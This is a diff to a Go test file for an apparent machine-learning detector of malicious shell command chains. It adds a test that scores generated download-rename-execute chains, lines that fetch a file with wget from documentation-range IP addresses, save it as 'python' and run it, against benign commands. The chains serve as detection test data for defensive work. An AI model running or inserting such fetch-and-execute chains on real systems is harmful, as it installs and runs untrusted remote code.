@@ -42,10 +42,10 @@ func buildChainFixture() (*chainFixture, error) {
 	}
 
 	// Context-joined training inputs (§IV-C) with ground-truth labels.
-	items := make([]tuning.TimedLine, len(train.Samples))
+	items := make([]Event, len(train.Samples))
 	labels := make([]bool, len(train.Samples))
 	for i, s := range train.Samples {
-		items[i] = tuning.TimedLine{User: s.User, Time: s.Time, Line: s.Line}
+		items[i] = Event{User: s.User, Time: s.Time, Line: s.Line}
 		labels[i] = s.Label == corpus.Intrusion
 	}
 	// Multi-line chains are rare in a single generated split (they are one
@@ -58,7 +58,7 @@ func buildChainFixture() (*chainFixture, error) {
 	clock := items[len(items)-1].Time
 	aug := func(user string, gap int64, line string, y bool) {
 		clock += gap
-		items = append(items, tuning.TimedLine{User: user, Time: clock, Line: line})
+		items = append(items, Event{User: user, Time: clock, Line: line})
 		labels = append(labels, y)
 	}
 	for i := 0; i < 80; i++ {
@@ -80,7 +80,9 @@ func buildChainFixture() (*chainFixture, error) {
 			aug(user, 5, "python", true)
 		}
 	}
-	contexts := tuning.BuildContexts(items, tuning.DefaultContextConfig())
+	ctxCfg := DefaultConfig()
+	ctxCfg.ContextWindow = 3
+	contexts := BuildContexts(items, ctxCfg)
 
 	// Pre-train on raw lines plus the joined contexts, so "a ; b" inputs
 	// are in-distribution for the encoder.
@@ -130,6 +132,38 @@ func getChainFixture(t *testing.T) *chainFixture {
 		t.Fatalf("chain fixture: %v", chainErr)
 	}
 	return chainFix
+}
+
+// TestMultiLineClassifierCatchesChains: the multi-line classifier trained
+// on BuildContexts output scores the §IV-C download-rename-execute chain
+// above the same interpreter run in benign context.
+func TestMultiLineClassifierCatchesChains(t *testing.T) {
+	f := getChainFixture(t)
+	var chains, benigns []string
+	for i := 0; i < 8; i++ {
+		wget := fmt.Sprintf("wget -c http://203.0.113.%d/%x", 3+7*i, 0x1000+97*i)
+		chains = append(chains, "cd /srv/deploy ; "+wget+" -o python ; python")
+		benigns = append(benigns, wget+" -o data.bin ; tar -xf data.bin", "cd /srv/deploy ; python")
+	}
+	pos, err := f.scorer.Score(chains)
+	if err != nil {
+		t.Fatal(err)
+	}
+	neg, err := f.scorer.Score(benigns)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if p, n := mean(pos), mean(neg); p <= n {
+		t.Fatalf("multi-line classifier missed the chain: attack %.3f vs benign %.3f", p, n)
+	}
+}
+
+func mean(xs []float64) float64 {
+	s := 0.0
+	for _, x := range xs {
+		s += x
+	}
+	return s / float64(len(xs))
 }
 
 // findChain returns the events of the first multi-line attack chain in the
